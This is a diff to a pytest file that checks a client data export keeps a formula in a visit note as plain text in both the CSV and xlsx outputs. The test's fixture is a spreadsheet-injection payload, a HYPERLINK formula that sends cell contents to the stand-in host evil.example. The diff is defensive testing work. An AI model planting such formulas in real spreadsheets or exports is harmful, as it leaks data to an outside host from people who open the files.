@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import csv
 import io
 import uuid
 import zipfile
@@ -10,6 +9,7 @@ import zipfile
 import pytest
 
 from fieldapp.common import spreadsheet
+from tests.spreadsheets import csv_records, workbook
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
 
@@ -39,5 +39,8 @@ def test_a_formula_in_a_note_stays_text_in_the_subject_access_export(client, aut
     note = {"note_uuid": str(uuid.uuid4()), "revision_uuid": str(uuid.uuid4()), "body": FORMULA}
     assert client.post(f"/api/visits/{world.visit.id}/notes", json=note).status_code == 201
     archive = zipfile.ZipFile(io.BytesIO(client.get(f"/clients/{world.client.id}/export").data))
-    rows = list(csv.DictReader(io.StringIO(archive.read("visit_notes.csv").decode())))
+    rows = csv_records(archive.read("visit_notes.csv"))
     assert [row["body"] for row in rows] == ["'" + FORMULA]
+    notes = workbook(archive.read("client.xlsx"))["visit_notes"]
+    body = next(cell for cell in notes[2] if cell.value == FORMULA)
+    assert body.data_type == "s"  # text, not a formula
